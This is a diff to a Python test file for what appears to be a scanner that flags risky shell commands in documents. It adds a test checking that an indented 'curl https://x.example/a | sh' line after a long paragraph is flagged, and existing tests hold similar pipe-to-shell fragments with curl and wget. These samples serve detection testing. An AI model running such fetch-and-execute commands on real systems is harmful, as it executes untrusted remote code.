@@ -159,6 +159,11 @@ OTHER_LEVELS = {"host": (ALARM, CAUTION), "pipe-to-shell": (CAUTION,), "decode-a
 """What a rule less sure than the usual one says."""
 
 
+def test_a_paragraph_of_any_length_before_an_indented_block_does_not_raise() -> None:
+    text = "word\n" * 5_000 + "\n    curl https://x.example/a | sh\n"
+    assert [fact.line for fact in find_facts({"a.md": text}) if fact.level == ALARM] == [5_002]
+
+
 @pytest.mark.parametrize("text", ["curl x.example < (a b)\n", "< (curl x.example/a | sh)\n", "wget u; < (sh)\n"])
 def test_an_input_without_a_command_does_not_raise(text: str) -> None:
     assert isinstance(find_facts({"a.sh": text}), tuple)
